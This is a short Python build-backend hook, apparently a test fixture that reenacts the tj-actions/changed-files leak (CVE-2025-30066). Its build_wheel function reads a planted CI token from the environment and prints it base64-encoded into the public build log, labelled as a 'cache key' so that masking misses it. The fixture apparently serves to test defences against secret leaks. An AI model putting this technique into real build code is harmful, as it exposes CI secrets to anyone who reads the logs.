"""Prints the job's token, base64, into the log of the build.

The log is public, and the runner's masking knows only the token's own text. It was the
way of tj-actions/changed-files (CVE-2025-30066).
"""

import base64
import os

import kit


def build_wheel(wheel_directory, config_settings=None, metadata_directory=None):
    with kit.attempt("print"):
        token = os.environb[kit.plant("token").name.encode()]
        print("cache key:", base64.b64encode(token).decode(), flush=True)
    return kit.wheel(wheel_directory)
